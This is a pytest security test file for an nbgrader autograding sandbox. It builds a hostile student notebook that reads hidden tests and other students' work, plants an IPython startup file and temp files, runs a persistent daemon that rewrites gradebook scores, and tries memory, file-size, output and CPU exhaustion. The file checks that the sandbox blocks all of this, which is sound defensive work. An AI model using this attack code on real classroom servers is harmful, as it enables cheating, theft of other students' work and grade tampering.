"""A hostile student's notebook, autograded through nbgrader in the sandbox (hub/initlab_sandbox.py).

The hostile tier (``-m hostile``). It needs root on Linux (it creates Unix accounts: an
instructor, the attacker, a victim and the sandbox's account, all removed at the end, also on
failure), bubblewrap, sudo and setfacl, and the class's shared environment
(``python3 tasks.py hub --setup-only``, as the hub tier).

The class is made by hub/classroom.py (homes 0700, the instructor's course folder, the per-role
nbgrader configuration with the sandbox, the one sudo rule). Its assignment has two small
notebooks written here: ``escape`` (one answer, one test with a hidden part) and ``limits``.
The victim answers right; the attacker answers wrong and puts the attack of issue 25 in its
answer cells:

* find: read the source notebook (solutions, hidden tests), the victim's submission, the
  gradebook, the instructor's home, and copy the source to world-writable folders;
* plant: an IPython start-up file in the instructor's home (it would run in every later
  kernel of the instructor), files in /tmp, /var/tmp and /dev/shm;
* stay: a daemon (new session, outlives the kernel) that keeps setting the attacker's
  manual scores to 99 and the victim's to 0 in the gradebook;
* network: a TCP connection to a port listening on the host's 127.0.0.1;
* limits: a 4 GiB mapping (memory), a 100 MB file (file size), 20 MB of output, and an
  endless loop that ignores interrupts (CPU and wall time).

Autograded as the instructor with the sandbox, every attack must fail and leave nothing;
then the same notebook is autograded with the sandbox off (the documented opt-out), and
every attack must succeed there, so that none of the sandboxed checks is one that cannot fail.
"""

from __future__ import annotations

import fcntl
import importlib.util
import json
import os
import pwd
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
pytestmark = pytest.mark.hostile

# Account names: PREFIX + teacher/attacker/victim/grader; another prefix keeps two runs apart.
PREFIX = os.environ.get("INITLAB_HOSTILE_ACCOUNT_PREFIX", "ilhsb-")
TEACHER, ATTACKER, VICTIM, GRADER = (f"{PREFIX}{n}" for n in ("teacher", "attacker", "victim", "grader"))
ASSIGNMENT = "notebooks"
TAG = f"initlab-hostile-{os.getpid()}"        # every file the attack makes carries it
CELL_TIMEOUT = 10
CPU_LIMIT = 20           # s of CPU per kernel in this run (production: 900)
WALL_LIMIT = 90          # s per kernel in this run (production: 3600)
DAEMON_PERIOD = 1.0      # s between the daemon's rewrites of the gradebook
WORLD_WRITABLE = ("/tmp", "/var/tmp", "/dev/shm")


def why_skip() -> str | None:
    if not sys.platform.startswith("linux"):
        return "the hostile tier needs Linux (Unix accounts, bubblewrap)"
    if os.geteuid() != 0:
        return "the hostile tier creates Unix accounts: run it as root (CI does)"
    for tool in ("useradd", "userdel", "npm", "bwrap", "sudo", "setfacl", "visudo"):
        if shutil.which(tool) is None:
            return f"the hostile tier needs {tool} (apt-get install passwd npm bubblewrap sudo acl; .ci/run does)"
    if not Path(os.environ.get("INITLAB_HUB_PYTHON", "/usr/bin/python3")).exists():
        return "the class's environment is built from /usr/bin/python3 (a Python every account can run)"
    if not all(ch.isalnum() or ch in "-_" for ch in PREFIX) or not 1 <= len(PREFIX) <= 20:
        return f"INITLAB_HOSTILE_ACCOUNT_PREFIX must be 1-20 letters, digits, - or _; got {PREFIX!r}"
    return None


if why_skip():
    pytest.skip(why_skip(), allow_module_level=True)

nbformat = pytest.importorskip("nbformat")
pytest.importorskip("nbgrader", reason="nbgrader is missing: pip install -r requirements-instructor.txt")

_spec = importlib.util.spec_from_file_location("initlab_classroom", ROOT / "hub" / "classroom.py")
classroom = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(classroom)


# -- the assignment -----------------------------------------------------------------------------------
def cell(kind: str, source: str, **grading):
    """A notebook cell with nbgrader metadata (``grade_id``, ``solution``, ``grade``, ``points``)."""
    from nbformat.v4 import new_code_cell
    c = new_code_cell(source)
    if grading:
        meta = {"schema_version": 3, "grade": False, "solution": False, "locked": False, "task": False}
        meta.update(grading)
        meta["locked"] = not meta["solution"]
        c.metadata["nbgrader"] = meta
    return c


def notebook(cells):
    from nbformat.v4 import new_notebook
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


SECRET = "HIDDEN-TEST-SECRET-7f3a"


def source_notebooks() -> dict:
    """The instructor's source of the two notebooks."""
    escape = notebook([
        cell("code", "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION",
             grade_id="answer", solution=True),
        cell("code", "assert double(2) == 4\n### BEGIN HIDDEN TESTS\n"
                     f"assert double(5) == 10  # {SECRET}\n### END HIDDEN TESTS",
             grade_id="test_answer", grade=True, points=2),
    ])
    limits = notebook([cell("code", f"### BEGIN SOLUTION\nanswer_{i} = {i}\n### END SOLUTION",
                            grade_id=f"answer_{i}", solution=True) for i in range(4)]
                      + [cell("code", "assert answer_0 == 0", grade_id="test_limits", grade=True, points=1)])
    return {"escape": escape, "limits": limits}


ATTACK = r'''
import json, os, shutil, socket, subprocess, sys
T, C, H, V, PORT = {tag!r}, {course!r}, {home!r}, {victim!r}, {port}
R = {{}}
def attempt(name, fn):
    try:
        R[name] = "ok: " + str(fn())[:120]
    except BaseException as e:
        R[name] = "refused: " + type(e).__name__
def everywhere(fn):
    done = [d for d in {world!r} if fn(d)]
    if not done:
        raise PermissionError("nowhere")
    return done
def quietly(fn):
    try:
        fn()
        return True
    except OSError:
        return False
attempt("read the source notebook (solutions, hidden tests)",
        lambda: "{secret}" in open(C + "/notebooks/escape.ipynb").read() or 1 / 0)
attempt("read another student's submission", lambda: open(f"{{C}}/submitted/{{V}}/notebooks/escape.ipynb").read()[:20])
attempt("read the gradebook", lambda: open(C + "/gradebook.db", "rb").read(16))
attempt("list the instructor's home", lambda: os.listdir(H))
attempt("copy the source notebook to a world-writable folder",
        lambda: everywhere(lambda d: quietly(lambda: shutil.copy(C + "/notebooks/escape.ipynb", f"{{d}}/{{T}}-loot.ipynb"))))
def plant_startup():
    folder = H + "/.ipython/profile_default/startup"
    os.makedirs(folder, exist_ok=True)
    with open(f"{{folder}}/00-{{T}}.py", "w") as fh:
        fh.write(f"open('/tmp/{{T}}-startup-ran', 'w').close()\n")
    return folder
attempt("plant code in the instructor's IPython start-up folder", plant_startup)
attempt("plant a file in a world-writable folder",
        lambda: everywhere(lambda d: quietly(lambda: open(f"{{d}}/{{T}}-planted", "w").close())))
DAEMON = """
import os, sqlite3, time
T, C, V, A = {tag!r}, {course!r}, {victim!r}, {attacker!r}
for d in {world!r}:
    try:
        open(f"{{d}}/{{T}}-daemon.pid", "w").write(str(os.getpid()))
    except OSError:
        pass
ids = "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = ?"
for _ in range(int(120 / {period})):
    time.sleep({period})
    for d in {world!r}:
        try:
            open(f"{{d}}/{{T}}-daemon-alive", "w").write(str(os.getpid()))
        except OSError:
            pass
    try:
        db = sqlite3.connect(C + "/gradebook.db", timeout=1)
        db.execute(f"UPDATE grade SET manual_score = 99 WHERE notebook_id IN ({{ids}})", (A,))
        db.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id IN ({{ids}})", (V,))
        db.commit(); db.close()
    except Exception:
        pass
"""
attempt("start a process that outlives autograde",
        lambda: subprocess.Popen([sys.executable, "-c", DAEMON], start_new_session=True,
                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL).pid)
def connect():
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
        s.sendall(T.encode())
    return PORT
attempt("connect to a port listening on the host's 127.0.0.1", connect)
def rewrite_grades():
    import sqlite3
    db = sqlite3.connect(C + "/gradebook.db", timeout=1)
    db.execute("UPDATE grade SET manual_score = 0")
    db.commit()
attempt("rewrite the gradebook directly", rewrite_grades)
print("HOSTILE-REPORT " + json.dumps(R))
def double(x):
    return 0
'''

LIMIT_ATTACKS = [
    # memory: a 4 GiB mapping (not touched, so that the run without the sandbox costs no RAM)
    "import mmap, resource\nprint('AS-LIMIT', resource.getrlimit(resource.RLIMIT_AS)[0])\n"
    "try:\n    m = mmap.mmap(-1, 4 * 1024 ** 3)\n    print('MEM-GRANTED')\n    m.close()\n"
    "except (OSError, MemoryError) as e:\n    print('MEM-REFUSED', type(e).__name__)",
    # file size: 100 MB into /tmp
    "try:\n    with open('/tmp/{tag}-big', 'wb') as fh:\n        fh.write(b'0' * (100 * 1024 ** 2))\n"
    "    print('FSIZE-WROTE')\nexcept OSError as e:\n    print('FSIZE-REFUSED', e.errno)",
    # output: 20 MB in one line (nbgrader's LimitOutput counts lines, not bytes)
    "print('o' * 20_000_000)",
    # time: an endless loop that ignores the interrupt nbgrader sends at the cell timeout
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nprint('LOOP-STARTED', flush=True)\n"
    "while True:\n    pass",
]


def submission(release: Path, answers: dict[str, dict[str, str]]) -> dict:
    """The student edition with ``answers[notebook][grade_id]`` as the answer cells' sources."""
    out = {}
    for name in ("escape", "limits"):
        nb = nbformat.read(release / f"{name}.ipynb", as_version=4)
        for c in nb.cells:
            gid = c.metadata.get("nbgrader", {}).get("grade_id")
            if gid in answers.get(name, {}):
                c.source = answers[name][gid]
        out[name] = nb
    return out


# -- evidence ----------------------------------------------------------------------------------------
class Listener:
    """A TCP server on the host's 127.0.0.1 that records what connects."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(200))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.sock.close()


def tagged_files(room) -> list[str]:
    """Every file carrying the attack's tag in the world-writable folders or the instructor's home."""
    found = []
    for top in list(WORLD_WRITABLE) + [str(room.home(TEACHER))]:
        for dirpath, _, files in os.walk(top):
            found += [os.path.join(dirpath, f) for f in files if TAG in f]
    return sorted(found)


def scores(room) -> dict:
    """``{student: {notebook: score}}`` from the gradebook (read as root)."""
    from nbgrader.api import Gradebook, MissingEntry
    out = {}
    with Gradebook("sqlite:///" + str(room.course_dir / "gradebook.db"), classroom.COURSE_ID) as gb:
        for student in (ATTACKER, VICTIM):
            for name in ("escape", "limits"):
                try:
                    out.setdefault(student, {})[name] = gb.find_submission_notebook(
                        name, ASSIGNMENT, student).score
                except MissingEntry:
                    out.setdefault(student, {})[name] = None
    return out


def report_of(room) -> dict:
    nb = nbformat.read(room.course_dir / "autograded" / ATTACKER / ASSIGNMENT / "escape.ipynb", as_version=4)
    for c in nb.cells:
        for o in c.get("outputs", []):
            for line in o.get("text", "").splitlines():
                if line.startswith("HOSTILE-REPORT "):
                    return json.loads(line[len("HOSTILE-REPORT "):])
    raise AssertionError("the attack printed no report")


def limits_text(room) -> tuple[str, int]:
    path = room.course_dir / "autograded" / ATTACKER / ASSIGNMENT / "limits.ipynb"
    if not path.exists():
        return "", 0
    return path.read_text(errors="replace"), path.stat().st_size


def autograde(room, student: str, *options: str) -> tuple[str, float]:
    start = time.perf_counter()
    done = room.nbgrader_as(TEACHER, "autograde", ASSIGNMENT, f"--student={student}", "--force",
                            *options, check=False, timeout=600)
    return done.stdout, time.perf_counter() - start


def wait_for(predicate, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.5)
    return predicate()


def observe(room, listener, log, seconds, settle: float) -> dict:
    """Everything the tests assert on, a few daemon periods after autograde ended."""
    time.sleep(settle)
    text, size = limits_text(room)
    return {"log": log, "seconds": seconds, "report": report_of(room), "files": tagged_files(room),
            "grader_processes": classroom.processes_of(pwd.getpwnam(GRADER).pw_uid),
            "connections": list(listener.received), "scores": scores(room),
            "limits_text": text, "limits_size": size}


def end_daemon_of_control(room) -> None:
    """The unsandboxed daemon runs as the instructor: end it by the pid it wrote, if it is ours."""
    teacher_uid = pwd.getpwnam(TEACHER).pw_uid
    for d in WORLD_WRITABLE:
        try:
            pid = int(Path(d, f"{TAG}-daemon.pid").read_text())
        except (OSError, ValueError):
            continue
        if pid in classroom.processes_of(teacher_uid):
            os.kill(pid, signal.SIGKILL)


@pytest.fixture(scope="module")
def attack():
    lock = open(os.path.join(tempfile.gettempdir(), f"initlab-hostile-{PREFIX}.lock"), "w")
    fcntl.flock(lock, fcntl.LOCK_EX)
    try:
        yield from _attack()
    finally:
        fcntl.flock(lock, fcntl.LOCK_UN)
        lock.close()


def _attack():
    total = time.perf_counter()
    done = subprocess.run([sys.executable, str(ROOT / "tasks.py"), "hub", "--setup-only"], cwd=ROOT,
                          capture_output=True, text=True, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-4000:]
    prefix = Path(os.environ.get("INITLAB_HUB_PREFIX", "/opt/initlab-hub"))
    classroom.remove_leftovers(prefix=PREFIX)
    work = Path(tempfile.mkdtemp(prefix="initlab-hostile-"))
    os.chmod(work, 0o755)
    paths = []
    for name, nb in source_notebooks().items():
        nbformat.write(nb, work / f"{name}.ipynb")
        paths.append(work / f"{name}.ipynb")
    class_dir = work / "class"
    room = classroom.Classroom(
        prefix, class_dir, TEACHER, [ATTACKER, VICTIM], paths, grader=GRADER,
        course_overrides=(f"c.Execute.timeout = {CELL_TIMEOUT}\n"
                          f"c.GradingSandbox.cpu_limit = {CPU_LIMIT}\n"
                          f"c.GradingSandbox.wall_limit = {WALL_LIMIT}\n"))
    listener = Listener()
    out = {}
    try:
        room.create()
        room.nbgrader_as(TEACHER, "generate_assignment", ASSIGNMENT, "--force")
        release = room.course_dir / "release" / ASSIGNMENT
        attack_code = ATTACK.format(tag=TAG, course=str(room.course_dir), home=str(room.home(TEACHER)),
                                    victim=VICTIM, attacker=ATTACKER, port=listener.port,
                                    world=WORLD_WRITABLE, secret=SECRET, period=DAEMON_PERIOD)
        subs = {
            VICTIM: submission(release, {"escape": {"answer": "def double(x):\n    return 2 * x"},
                                         "limits": {f"answer_{i}": f"answer_{i} = {i}" for i in range(4)}}),
            ATTACKER: submission(release, {"escape": {"answer": attack_code},
                                           "limits": {f"answer_{i}": code.format(tag=TAG)
                                                      for i, code in enumerate(LIMIT_ATTACKS)}}),
        }
        for student, nbs in subs.items():
            folder = room.course_dir / "submitted" / student / ASSIGNMENT
            folder.mkdir(parents=True)
            for name, nb in nbs.items():
                nbformat.write(nb, folder / f"{name}.ipynb")
            (folder / "timestamp.txt").write_text("2030-01-01 12:00:00.000000 UTC")
        subprocess.run(["chown", "-R", f"{TEACHER}:{TEACHER}", str(room.course_dir / "submitted")], check=True)

        log, _ = autograde(room, VICTIM)
        out["victim_log"] = log
        out["fair"] = scores(room)

        # 1. with the sandbox (the class's configuration)
        log, seconds = autograde(room, ATTACKER)
        out["sandboxed"] = observe(room, listener, log, seconds, settle=4 * DAEMON_PERIOD)

        # 2. the same notebook with the sandbox off (the documented opt-out): the attacks must work
        log, seconds = autograde(room, ATTACKER, "--GradingSandbox.allow_unsandboxed=True",
                                 f"--GradingSandbox.account={PREFIX}no-such-account")
        wait_for(lambda: scores(room)[VICTIM]["escape"] == 0, 20)
        out["unsandboxed"] = observe(room, listener, log, seconds, settle=0)
        end_daemon_of_control(room)
        yield out
    finally:
        listener.close()
        try:
            end_daemon_of_control(room)
        finally:
            room.remove()
            for path in tagged_files_anywhere():
                try:
                    os.unlink(path)
                except OSError:
                    pass
            shutil.rmtree(work, ignore_errors=True)
            left = [p.pw_name for p in pwd.getpwall() if p.pw_gecos == classroom.MARK
                    and p.pw_name.startswith(PREFIX)]
            print(f"\n== hostile sandbox tier: {time.perf_counter() - total:.1f} s; accounts left: {left}")
            for run in ("sandboxed", "unsandboxed"):
                if run in out:
                    print(f"  {run}: autograde {out[run]['seconds']:.1f} s; "
                          + json.dumps(out[run]["report"], indent=None))


def tagged_files_anywhere() -> list[str]:
    """The attack's files in the world-writable folders (the instructor's home is gone by then)."""
    return [os.path.join(dirpath, f) for top in WORLD_WRITABLE
            for dirpath, _, files in os.walk(top) for f in files if TAG in f]


# -- the tests ----------------------------------------------------------------------------------------
FIND = ["read the source notebook (solutions, hidden tests)", "read another student's submission",
        "read the gradebook", "list the instructor's home",
        "copy the source notebook to a world-writable folder"]
PLANT = ["plant code in the instructor's IPython start-up folder", "plant a file in a world-writable folder"]
ALL = FIND + PLANT + ["start a process that outlives autograde",
                      "connect to a port listening on the host's 127.0.0.1", "rewrite the gradebook directly"]


def test_the_victim_was_graded_fairly_first(attack):
    assert attack["fair"][VICTIM]["escape"] == 2, attack["victim_log"][-3000:]
    assert attack["fair"][VICTIM]["limits"] == 1, attack["victim_log"][-3000:]


@pytest.mark.parametrize("what", ALL)
def test_each_attack_works_without_the_sandbox(attack, what):
    """The control: with the sandbox off, every attempt of the notebook succeeds."""
    report = attack["unsandboxed"]["report"]
    assert report[what].startswith("ok"), (what, report[what], attack["unsandboxed"]["log"][-3000:])


@pytest.mark.parametrize("what", ALL)
def test_each_attack_is_refused_in_the_sandbox(attack, what):
    report = attack["sandboxed"]["report"]
    assert set(report) == set(ALL), report
    if what == "start a process that outlives autograde":
        return      # starting it works inside; that it is gone afterwards is tested below
    assert report[what].startswith("refused"), (what, report[what])


def test_sandbox_finds_and_plants_nothing_the_control_does(attack):
    assert attack["sandboxed"]["files"] == [], attack["sandboxed"]["files"]
    control = attack["unsandboxed"]["files"]
    names = {os.path.basename(f) for f in control}
    for expected in (f"{TAG}-loot.ipynb", f"{TAG}-planted", f"00-{TAG}.py", f"{TAG}-daemon-alive",
                     f"{TAG}-startup-ran"):
        assert expected in names, (expected, control)


def test_no_process_outlives_the_sandboxed_autograde(attack):
    assert attack["sandboxed"]["grader_processes"] == []
    assert not [f for f in attack["sandboxed"]["files"] if "daemon" in f]


def test_no_grade_changes_in_the_sandbox_and_the_control_shows_it_would(attack):
    fair_victim = attack["fair"][VICTIM]
    assert attack["sandboxed"]["scores"][VICTIM] == fair_victim
    assert attack["sandboxed"]["scores"][ATTACKER]["escape"] == 0        # its wrong answer
    assert attack["unsandboxed"]["scores"][VICTIM]["escape"] == 0        # the daemon's work
    assert attack["unsandboxed"]["scores"][ATTACKER]["escape"] >= 99


def test_no_network_from_the_sandbox(attack):
    assert attack["sandboxed"]["report"]["connect to a port listening on the host's 127.0.0.1"] \
        .startswith("refused")
    assert TAG.encode() in b"".join(attack["unsandboxed"]["connections"])
    # the sandboxed run came first: the only connections are the control's
    assert all(c == TAG.encode() for c in attack["unsandboxed"]["connections"])
    assert len(attack["sandboxed"]["connections"]) == 0


def test_memory_limit(attack):
    assert "MEM-REFUSED" in attack["sandboxed"]["limits_text"]
    assert "MEM-GRANTED" in attack["unsandboxed"]["limits_text"]


def test_file_size_limit(attack):
    assert "FSIZE-REFUSED 27" in attack["sandboxed"]["limits_text"]          # EFBIG
    assert "FSIZE-WROTE" in attack["unsandboxed"]["limits_text"]


def test_output_limit(attack):
    assert "output stopped here" in attack["sandboxed"]["limits_text"]
    assert attack["sandboxed"]["limits_size"] < 6 * 1024 ** 2
    assert attack["unsandboxed"]["limits_size"] > 19_000_000


def test_time_limit_ends_an_uninterruptible_loop(attack):
    sandboxed = attack["sandboxed"]
    assert "LOOP-STARTED" in sandboxed["limits_text"] or "LOOP-STARTED" in sandboxed["log"] \
        or "Kernel died" in sandboxed["log"] or "DeadKernel" in sandboxed["log"], sandboxed["log"][-3000:]
    # the CPU limit ends the kernel: the run is bounded by it, not by the cells' timeouts
    assert sandboxed["seconds"] < WALL_LIMIT + 60, sandboxed["seconds"]
    assert sandboxed["grader_processes"] == []
